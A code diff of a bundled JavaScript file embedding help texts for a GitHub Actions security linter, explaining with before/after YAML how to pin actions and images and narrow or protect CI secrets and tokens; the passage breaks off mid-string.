@@ -304,7 +304,7 @@ const permissions_guard_namespaceObject = /*#__PURE__*/JSON.parse('{"artipacked"
 ;// CONCATENATED MODULE: ./packages/core/build/rules/help/pin-verify.json
 const pin_verify_namespaceObject = /*#__PURE__*/JSON.parse('{"lockfile-problem":"The lockfile of the workflows is broken, of an unknown version, or out of date\\n\\nWith [`.github/workflows/actions.lock`](https://docs.github.com/en/actions/concepts/security/workflow-dependency-lockfiles) a workflow may say `actions/checkout@v7` and still run one recorded commit. That is worth as much as the file is true. Tags do move: [76 of 77 tags of `aquasecurity/trivy-action`](https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23) in one night of March 2026. A reviewer who sees a lockfile takes the tags for pinned, also in the workflow that was renamed since and is no longer in it. And GitHub refuses to start a workflow that is listed without everything it uses, or a lockfile that it cannot read, which is a bad thing to learn in the middle of a release.\\n\\n## Fix\\n\\nThe file is written by a tool and not to be edited by hand: run `gh actions-lock` and commit the result. What was cut short by hand here:\\n\\n```yaml before .github/workflows/actions.lock\\nversion: \'v0.0.2\'\\ndependencies:\\n    \'actions/checkout@v7.0.1\':\\n        ref: \'v7.0.1\'\\n        commit: \'3d3c42e\'\\n        owner_id: 44036562\\n        repo_id: 197814629\\n```\\n\\n```yaml after .github/workflows/actions.lock\\nversion: \'v0.0.2\'\\ndependencies:\\n    \'actions/checkout@v7.0.1\':\\n        ref: \'v7.0.1\'\\n        commit: \'sha1-3d3c42e5aac5ba805825da76410c181273ba90b1\'\\n        owner_id: 44036562\\n        repo_id: 197814629\\n```\\n","pin-comment-missing":"A commit pin does not say which version it is\\n\\nForty hex digits say nothing to a reviewer. Without the version beside them nobody sees that a pin is old, or that a pull request that claims to go from v3 to v4 pins something else: a commit that was pushed to a fork answers to the name of the original repository as well, as [impostor commits](https://www.chainguard.dev/unchained/what-the-fork-imposter-commits-in-github-actions-and-ci-cd) do. When [the tags v1 to v45.0.7 of `tj-actions/changed-files`](https://github.com/advisories/GHSA-mrrh-fwg8-r2c3) were found to be malicious in March 2025, everybody had to say in a hurry which version they ran. Dependabot and Renovate [read the comment](https://github.blog/changelog/2022-10-31-dependabot-now-updates-comments-in-github-actions-workflows-referencing-action-versions), keep it true with every update, and can only guess the version of a pin without one.\\n\\n## Fix\\n\\nAdd the version on the line on which the commit stands.\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\\n```\\n\\nA version comment begins with something that has digits in the shape of a version (`v7`, `7.0.1`, `2.0rc1`, `2026-01-02`), also behind a name (`release/v1`, `codeql-bundle-v2.20.0`) or an introduction (`tag=v7`, `pin@v7`, `renovate: tag=v7`, `ratchet:actions/checkout@v7`), or it has a plain version (`v7`, `7.0.1`) anywhere. `stable`, `beta` and `nightly` count as well, for actions that publish by branch. Other branch names do not: they do not say which state of the branch it is.\\n","self-reference-with-ref":"A reference to the own repository names a ref\\n\\n`$/path` is the action or reusable workflow at `path` in the repository of the file it stands in, [at the commit that is running](https://github.blog/changelog/2026-07-30-reference-same-repository-actions-with-self-repository-syntax/). It needs no pin and takes none: GitHub refuses `$/path@ref`, so the workflow does not run. Nor does it say what its author may have meant, a fixed state of the own repository, which was what `owner/name/path@v1` gave, and what an attacker wants: the tag v1 of [`reviewdog/action-setup`](https://github.com/reviewdog/reviewdog/security/advisories/GHSA-qmg3-hpqr-gqvc) was used by the project\'s own actions, and when it was moved in March 2025 it took them all along (CVE-2025-30154).\\n\\n## Fix\\n\\nLeave the ref out.\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: $/.github/actions/setup@v1\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: $/.github/actions/setup\\n```\\n\\nWhere another state of the repository is wanted, name it in full, with a commit: `owner/name/.github/actions/setup@<commit>`.\\n","unpinned-images":"A container image is not pinned by digest\\n\\nAn image tag is a name in a registry, and whoever can push there can push it again with other content. A job that runs in the image, or beside it, then runs that content, with its token, secrets and workspace. On 22 March 2026 stolen credentials pushed [malicious Trivy images to Docker Hub](https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23) as 0.69.5 and 0.69.6 (CVE-2026-33634); every job that pulled `latest` in the next ten hours ran them. An image by digest, `name@sha256:\u2026`, is that content or nothing.\\n\\n## Fix\\n\\nAdd the digest; with it, the tag is for readers and update tools only. `docker buildx imagetools inspect node:24` prints it.\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container: node:24\\n    steps:\\n      - uses: docker://ghcr.io/octo-org/tool\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container: node:24@sha256:2ad1ac2f2ab3f6c7b9f3f8b1e8f3d5a0c1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6\\n    steps:\\n      - uses: docker://ghcr.io/octo-org/tool@sha256:2ad1ac2f2ab3f6c7b9f3f8b1e8f3d5a0c1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6\\n```\\n","unpinned-uses":"An action or reusable workflow is not pinned to a full commit\\n\\nA tag or branch is a name that whoever controls the action\'s repository, or has stolen a token that can write to it, may point at other code. Every workflow that uses the name runs that code in its next job, with the job\'s token and secrets, and nothing in your repository changes.\\n\\n## Fix\\n\\nWrite the full commit, and keep the version as a comment for readers and for update tools.\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v7\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\\n```\\n\\nOr lock the workflow with `gh actions-lock`: a tag that [`.github/workflows/actions.lock`](https://docs.github.com/en/actions/concepts/security/workflow-dependency-lockfiles) lists for the workflow, with a commit for it and for everything that it uses, counts as pinned, since GitHub runs the recorded commit.\\n\\n`./path` and `$/path` name the own repository and need no pin.\\n"}');
 ;// CONCATENATED MODULE: ./packages/core/build/rules/help/secrets-guard.json
-const secrets_guard_namespaceObject = /*#__PURE__*/JSON.parse('{"broad-token-secret":"A stored token for GitHub is used\\n\\nA personal access token, or one of a bot\'s account, can do in every repository what its owner can, on every day until somebody revokes it. The job\'s own `GITHUB_TOKEN` can do what `permissions` says, in one repository, until the job ends; a token of a GitHub App can be narrowed to the repositories and permissions that are needed, and ends within an hour. Who gets code into a job takes what lies there, and with a stored token goes on to the next repository.\\n\\n## Fix\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: gh pr merge --auto \\"$GITHUB_REF_NAME\\"\\n        env:\\n          GH_TOKEN: ${{ secrets.BOT_PAT }}\\n```\\n\\nIn its own repository a job does with its own token:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n      pull-requests: write\\n    steps:\\n      - run: gh pr merge --auto \\"$GITHUB_REF_NAME\\"\\n        env:\\n          GH_TOKEN: ${{ github.token }}\\n```\\n\\nWhat it pushes starts no workflows, and it passes no protected branch. Where that is wanted, and for another repository, take a token of a GitHub App, whose key only a protected environment holds:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  notify:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@v3\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: acme\\n          repositories: docs\\n          permission-contents: write\\n      - uses: peter-evans/repository-dispatch@v3\\n        with:\\n          token: ${{ steps.app.outputs.token }}\\n          repository: acme/docs\\n          event-type: released\\n```\\n","github-app":"A token of a GitHub App can do more, or lives longer, than its job needs\\n\\nA token of a GitHub App is the right way to write to another repository, or to let a push start workflows: it belongs to no person and ends within an hour. Unless told otherwise it also is as strong as the app: all of its permissions, and with some actions or inputs all of the repositories where it is installed. Whoever runs code in the job, by a script that a branch name is pasted into or by a dependency, has the whole app.\\n\\n## Fix\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  bump:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT_ID }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: ${{ github.repository_owner }}\\n      - run: ./bump-charts.sh\\n        env:\\n          GH_TOKEN: ${{ steps.app.outputs.token }}\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  bump:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT_ID }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: ${{ github.repository_owner }}\\n          repositories: charts\\n          permission-contents: write\\n          permission-pull-requests: write\\n      - run: ./bump-charts.sh\\n        env:\\n          GH_TOKEN: ${{ steps.app.outputs.token }}\\n```\\n\\nWithout `owner` and `repositories`, `actions/create-github-app-token` makes a token for the job\'s own repository.\\n","hardcoded-container-credentials":"The password of a container registry is written in the workflow\\n\\nWhat stands in a workflow is read by everybody who can read the repository, and stays in its history after it was removed. The password of a registry mostly lets its owner push as well as pull: who has it replaces the image that the job, and whoever else uses it, runs next.\\n\\n## Fix\\n\\nChange the password at the registry first: the old one is known. Then:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    environment: registry\\n    container:\\n      image: registry.example.com/build\\n      credentials:\\n        username: builder\\n        password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: make test\\n```\\n\\nFor `ghcr.io` no password is needed: `${{ github.token }}` with `packages: read`.\\n","long-lived-registry-token":"A stored token publishes to a registry where not every job can log in by OIDC\\n\\nWhere a registry takes no OIDC login, or not from everybody, somebody has to store a token: for the VS Code Marketplace and Open VSX, Maven Central, Docker Hub, Hex, the Snap Store and others. It cannot be avoided, but it can be kept: in an environment, which only the branches and tags that release may use, and for which somebody has to approve. Outside of one, every workflow of the repository can ask for it, and one that is tricked into running foreign code can hand it out.\\n\\n## Fix\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npx ovsx publish extension.vsix\\n        env:\\n          OVSX_PAT: ${{ secrets.OVSX_PAT }}\\n```\\n\\nMove the secret into an environment, and name it. What is left is a finding of low severity, since the token still lives long:\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: open-vsx\\n    steps:\\n      - run: npx ovsx publish extension.vsix\\n        env:\\n          OVSX_PAT: ${{ secrets.OVSX_PAT }}\\n```\\n\\nThe VS Code Marketplace takes an identity of Entra ID that trusts the job:\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: marketplace\\n    permissions:\\n      id-token: write\\n    steps:\\n      - uses: azure/login@v2\\n        with:\\n          client-id: ${{ vars.AZURE_CLIENT_ID }}\\n          tenant-id: ${{ vars.AZURE_TENANT_ID }}\\n          allow-no-subscriptions: true\\n      - run: npx vsce publish --azure-credential --packagePath extension.vsix\\n```\\n\\nDocker Hub takes OIDC logins of organizations that pay for it: `docker/login-action` without `password`.\\n","overprovisioned-secrets":"A job gets every secret\\n\\nGitHub sends a job the secrets that its file names. `toJSON(secrets)`, `secrets.*`, `secrets` as the argument of a function, and `secrets[\u2026]` with anything but a literal name no one: so all go, the organisation\'s too, and stand in the memory of the runner, where every step of the job can read them.\\n\\n## Fix\\n\\nName what the step needs:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./report\\n        env:\\n          REPORT_TOKEN: ${{ secrets.REPORT_TOKEN }}\\n```\\n\\nInstead of computing a name, write the names:\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    strategy:\\n      matrix:\\n        region: [EU, US]\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          TOKEN: ${{ secrets[format(\'TOKEN_{0}\', matrix.region)] }}\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    strategy:\\n      matrix:\\n        region: [EU, US]\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          TOKEN: ${{ matrix.region == \'EU\' && secrets.TOKEN_EU || secrets.TOKEN_US }}\\n```\\n\\nBetter still, give each region an environment of its own, in which the secret has one name for all.\\n","secret-in-run-script":"A secret is pasted into a script\\n\\n`${{ secrets.X }}` in a script is replaced before the shell sees it. The value becomes part of the program: a `\\"`, a `$` or a backtick in it breaks the script or is run; the script is a file on the disk of the runner while it runs; and what stands on a command line is in the list of processes, which every other step and container of the job can read. In a URL it goes further: `git` keeps it in `.git/config`, and `git`, `curl` and package managers repeat it in their errors. A variable in `env` is none of that.\\n\\n## Fix\\n\\nHand the secret over in the step\'s `env`, and read the variable:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  docs:\\n    runs-on: ubuntu-latest\\n    environment: docs\\n    steps:\\n      - run: |\\n          gh auth setup-git\\n          git clone https://github.com/octo-org/docs.git\\n        env:\\n          GH_TOKEN: ${{ secrets.DOCS_TOKEN }}\\n```\\n\\nIn `actions/github-script` read `process.env.NAME`; in PowerShell `$env:NAME`.\\n","secrets-inherit":"A called workflow gets every secret\\n\\n`secrets: inherit` hands over all that the caller could read: the secrets of the repository and of its organisation, those of today and those that somebody adds next year. The called workflow, every action in it and every package that they install run beside them. When one of them is subverted, this line decides whether one token is lost or all.\\n\\n## Fix\\n\\nHand over by name what is needed, and nothing else:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  lint:\\n    uses: octo-org/shared/.github/workflows/lint.yml@0123456789012345678901234567890123456789\\n    secrets:\\n      token: ${{ secrets.LINT_TOKEN }}\\n```\\n\\nThe called workflow declares the names:\\n\\n```yaml\\non:\\n  workflow_call:\\n    secrets:\\n      token:\\n        required: true\\n```\\n\\n`GITHUB_TOKEN` is there without being handed over.\\n","secrets-outside-env":"A secret is used without an environment\\n\\nA secret of the repository, or of its organisation, belongs to every workflow on every branch. Whoever can push a branch, with a stolen token or as one contributor of many, writes a workflow that prints it; nobody reviews that branch, and it can be gone a second later. A secret of an *environment* is given only to a job that names the environment, and GitHub asks first whether the branch or tag is one that may, and whether a person has to say yes.\\n\\n## Fix\\n\\nMake an environment (*Settings, Environments*), say which branches and tags may use it, and, for what publishes, who has to approve. Store the secret there, **delete it from the repository and the organisation**, and name the environment on the job:\\n\\n```yaml after\\non:\\n  push:\\n    tags: [\'v*\']\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    steps:\\n      - run: npm publish\\n        env:\\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```\\n\\nA job that calls a reusable workflow can have no environment, and secrets of one cannot be handed over: use the secret in a job of your own, or in a job of the called workflow that names the environment.\\n\\nA secret whose loss you can bear on every branch, such as an upload token of a coverage service, is allowed by its exact name in `.github/portcullis.yml`:\\n\\n```yaml\\nversion: 1\\nallow:\\n  secrets: [CODECOV_TOKEN]\\n```\\n","unredacted-secrets":"A part of a secret is not masked in the log\\n\\nThe runner masks a secret by looking for its text. `fromJSON(secrets.X).password` is another text, which the runner has never heard of, and it prints what it is given: the `env` of each step and the `with` of each action stand at the head of the step\'s log. The log of a public repository is open to everybody.\\n\\n## Fix\\n\\nStore each value as a secret of its own:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          PASSWORD: ${{ secrets.DATABASE_PASSWORD }}\\n```\\n\\nWhere the document must stay whole, hand it over whole and let the program take it apart that needs it. `::add-mask::` does not help here: by the time a script says it, the log has the value.\\n","use-trusted-publishing":"A stored token publishes to a registry where the job could log in by OIDC\\n\\nPyPI, npm, crates.io, RubyGems, NuGet, pub.dev and JSR take a job\'s OIDC identity for a login: the registry knows which workflow of which repository may publish, and answers with a token that lives for minutes. A stored token is good from anywhere, for years, and for whoever has it; it is what an attacker in a job looks for, since it outlasts the discovery of how he got in.\\n\\n## Fix\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: actions/setup-node@v6\\n        with:\\n          registry-url: https://registry.npmjs.org\\n      - run: npm publish\\n        env:\\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```\\n\\nName the workflow and its environment at the registry, remove the token from the job, then revoke it and forbid tokens for the package:\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: actions/setup-node@v6\\n        with:\\n          registry-url: https://registry.npmjs.org\\n      - run: npm publish\\n```\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: crates-io\\n    permissions:\\n      contents: read\\n      id-token: write\\n    steps:\\n      - uses: actions/checkout@v6\\n      - uses: rust-lang/crates-io-auth-action@v1\\n        id: auth\\n      - run: cargo publish\\n        env:\\n          CARGO_REGISTRY_TOKEN: ${{ steps.auth.outputs.token }}\\n```\\n"}');
+const secrets_guard_namespaceObject = /*#__PURE__*/JSON.parse('{"broad-token-secret":"A stored token for GitHub is used\\n\\nA personal access token, or one of a bot\'s account, can do in every repository what its owner can, on every day until somebody revokes it. The job\'s own `GITHUB_TOKEN` can do what `permissions` says, in one repository, until the job ends; a token of a GitHub App can be narrowed to the repositories and permissions that are needed, and ends within an hour. Who gets code into a job takes what lies there, and with a stored token goes on to the next repository.\\n\\n## Fix\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: gh pr merge --auto \\"$GITHUB_REF_NAME\\"\\n        env:\\n          GH_TOKEN: ${{ secrets.BOT_PAT }}\\n```\\n\\nIn its own repository a job does with its own token:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  merge:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n      pull-requests: write\\n    steps:\\n      - run: gh pr merge --auto \\"$GITHUB_REF_NAME\\"\\n        env:\\n          GH_TOKEN: ${{ github.token }}\\n```\\n\\nWhat it pushes starts no workflows, and it passes no protected branch. Where that is wanted, and for another repository, take a token of a GitHub App, whose key only a protected environment holds:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  notify:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@v3\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: acme\\n          repositories: docs\\n          permission-contents: write\\n      - uses: peter-evans/repository-dispatch@v3\\n        with:\\n          token: ${{ steps.app.outputs.token }}\\n          repository: acme/docs\\n          event-type: released\\n```\\n","github-app":"A token of a GitHub App can do more, or lives longer, than its job needs\\n\\nA token of a GitHub App is the right way to write to another repository, or to let a push start workflows: it belongs to no person and ends within an hour. Unless told otherwise it also is as strong as the app: all of its permissions, and with some actions or inputs all of the repositories where it is installed. Whoever runs code in the job, by a script that a branch name is pasted into or by a dependency, has the whole app.\\n\\n## Fix\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  bump:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT_ID }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: ${{ github.repository_owner }}\\n      - run: ./bump-charts.sh\\n        env:\\n          GH_TOKEN: ${{ steps.app.outputs.token }}\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  bump:\\n    runs-on: ubuntu-latest\\n    environment: delivery\\n    steps:\\n      - uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1\\n        id: app\\n        with:\\n          client-id: ${{ vars.DELIVERY_BOT_ID }}\\n          private-key: ${{ secrets.DELIVERY_BOT_KEY }}\\n          owner: ${{ github.repository_owner }}\\n          repositories: charts\\n          permission-contents: write\\n          permission-pull-requests: write\\n      - run: ./bump-charts.sh\\n        env:\\n          GH_TOKEN: ${{ steps.app.outputs.token }}\\n```\\n\\nWithout `owner` and `repositories`, `actions/create-github-app-token` makes a token for the job\'s own repository.\\n","hardcoded-container-credentials":"The password of a container registry is written in the workflow\\n\\nWhat stands in a workflow is read by everybody who can read the repository, and stays in its history after it was removed. The password of a registry mostly lets its owner push as well as pull: who has it replaces the image that the job, and whoever else uses it, runs next.\\n\\n## Fix\\n\\nChange the password at the registry first: the old one is known. Then:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    environment: registry\\n    container:\\n      image: registry.example.com/build\\n      credentials:\\n        username: builder\\n        password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: make test\\n```\\n\\nFor `ghcr.io` no password is needed: `${{ github.token }}` with `packages: read`.\\n","long-lived-registry-token":"A stored token publishes to a registry where not every job can log in by OIDC\\n\\nWhere a registry takes no OIDC login, or not from everybody, somebody has to store a token: for the VS Code Marketplace, Maven Central, Docker Hub, Hex, the Snap Store and others. It cannot be avoided, but it can be kept: in an environment, which only the branches and tags that release may use, and for which somebody has to approve. Outside of one, every workflow of the repository can ask for it, and one that is tricked into running foreign code can hand it out.\\n\\n## Fix\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npx vsce publish --packagePath extension.vsix\\n        env:\\n          VSCE_PAT: ${{ secrets.VSCE_PAT }}\\n```\\n\\nMove the secret into an environment, and name it. What is left is a finding of low severity, since the token still lives long:\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: marketplace\\n    steps:\\n      - run: npx vsce publish --packagePath extension.vsix\\n        env:\\n          VSCE_PAT: ${{ secrets.VSCE_PAT }}\\n```\\n\\nThe VS Code Marketplace takes an identity of Entra ID that trusts the job:\\n\\n```yaml after\\non:\\n  release:\\n    types: [published]\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: marketplace\\n    permissions:\\n      id-token: write\\n    steps:\\n      - uses: azure/login@v2\\n        with:\\n          client-id: ${{ vars.AZURE_CLIENT_ID }}\\n          tenant-id: ${{ vars.AZURE_TENANT_ID }}\\n          allow-no-subscriptions: true\\n      - run: npx vsce publish --azure-credential --packagePath extension.vsix\\n```\\n\\nDocker Hub takes OIDC logins of organizations that pay for it: `docker/login-action` without `password`.\\n","overprovisioned-secrets":"A job gets every secret\\n\\nGitHub sends a job the secrets that its file names. `toJSON(secrets)`, `secrets.*`, `secrets` as the argument of a function, and `secrets[\u2026]` with anything but a literal name no one: so all go, the organisation\'s too, and stand in the memory of the runner, where every step of the job can read them.\\n\\n## Fix\\n\\nName what the step needs:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./report\\n        env:\\n          REPORT_TOKEN: ${{ secrets.REPORT_TOKEN }}\\n```\\n\\nInstead of computing a name, write the names:\\n\\n```yaml before\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    strategy:\\n      matrix:\\n        region: [EU, US]\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          TOKEN: ${{ secrets[format(\'TOKEN_{0}\', matrix.region)] }}\\n```\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    strategy:\\n      matrix:\\n        region: [EU, US]\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          TOKEN: ${{ matrix.region == \'EU\' && secrets.TOKEN_EU || secrets.TOKEN_US }}\\n```\\n\\nBetter still, give each region an environment of its own, in which the secret has one name for all.\\n","secret-in-run-script":"A secret is pasted into a script\\n\\n`${{ secrets.X }}` in a script is replaced before the shell sees it. The value becomes part of the program: a `\\"`, a `$` or a backtick in it breaks the script or is run; the script is a file on the disk of the runner while it runs; and what stands on a command line is in the list of processes, which every other step and container of the job can read. In a URL it goes further: `git` keeps it in `.git/config`, and `git`, `curl` and package managers repeat it in their errors. A variable in `env` is none of that.\\n\\n## Fix\\n\\nHand the secret over in the step\'s `env`, and read the variable:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  docs:\\n    runs-on: ubuntu-latest\\n    environment: docs\\n    steps:\\n      - run: |\\n          gh auth setup-git\\n          git clone https://github.com/octo-org/docs.git\\n        env:\\n          GH_TOKEN: ${{ secrets.DOCS_TOKEN }}\\n```\\n\\nIn `actions/github-script` read `process.env.NAME`; in PowerShell `$env:NAME`.\\n","secrets-inherit":"A called workflow gets every secret\\n\\n`secrets: inherit` hands over all that the caller could read: the secrets of the repository and of its organisation, those of today and those that somebody adds next year. The called workflow, every action in it and every package that they install run beside them. When one of them is subverted, this line decides whether one token is lost or all.\\n\\n## Fix\\n\\nHand over by name what is needed, and nothing else:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  lint:\\n    uses: octo-org/shared/.github/workflows/lint.yml@0123456789012345678901234567890123456789\\n    secrets:\\n      token: ${{ secrets.LINT_TOKEN }}\\n```\\n\\nThe called workflow declares the names:\\n\\n```yaml\\non:\\n  workflow_call:\\n    secrets:\\n      token:\\n        required: true\\n```\\n\\n`GITHUB_TOKEN` is there without being handed over.\\n","secrets-outside-env":"A secret is used without an environment\\n\\nA secret of the repository, or of its organisation, belongs to every workflow on every branch. Whoever can push a branch, with a stolen token or as one contributor of many, writes a workflow that prints it; nobody reviews that branch, and it can be gone a second later. A secret of an *environment* is given only to a job that names the environment, and GitHub asks first whether the branch or tag is one that may, and whether a person has to say yes.\\n\\n## Fix\\n\\nMake an environment (*Settings, Environments*), say which branches and tags may use it, and, for what publishes, who has to approve. Store the secret there, **delete it from the repository and the organisation**, and name the environment on the job:\\n\\n```yaml after\\non:\\n  push:\\n    tags: [\'v*\']\\npermissions: {}\\njobs:\\n  publish:\\n    runs-on: ubuntu-latest\\n    environment: npm\\n    steps:\\n      - run: npm publish\\n        env:\\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\\n```\\n\\nA job that calls a reusable workflow can have no environment, and secrets of one cannot be handed over: use the secret in a job of your own, or in a job of the called workflow that names the environment.\\n\\nA secret whose loss you can bear on every branch, such as an upload token of a coverage service, is allowed by its exact name in `.github/portcullis.yml`:\\n\\n```yaml\\nversion: 1\\nallow:\\n  secrets: [CODECOV_TOKEN]\\n```\\n","unredacted-secrets":"A part of a secret is not masked in the log\\n\\nThe runner masks a secret by looking for its text. `fromJSON(secrets.X).password` is another text, which the runner has never heard of, and it prints what it is given: the `env` of each step and the `with` of each action stand at the head of the step\'s log. The log of a public repository is open to everybody.\\n\\n## Fix\\n\\nStore each value as a secret of its own:\\n\\n```yaml after\\non: push\\npermissions: {}\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    environment: production\\n    steps:\\n      - run: ./deploy\\n        env:\\n          PASSWORD: ${{ secrets.DATABASE_PASSWORD }}\\n```\\n\\nWhere the document must stay whole, hand it over whole and let the program take it apart that needs it. `::add-mask::` does not help here: by the time a script says it, the log has the value.\\n","use-trusted-publishing":"A stored token publishes to a registry where the job could log in by OIDC\\n\\nPyPI, npm, crates.io, RubyGems, NuGet, pub.dev, JSR and Open VSX take a job\'s OIDC identity for a login: the registry knows which workflow of which repository may publish, and answers with a token that lives for minutes. A stored token is good from anywhere, for years, and for whoever has it; it is what an attacker in a job looks for, since it outlasts the discovery of how he got in.\\n\\n## Fix\\n\\n```yaml before\\non:\\n  release:\\n    types: [published]\\npermissions: 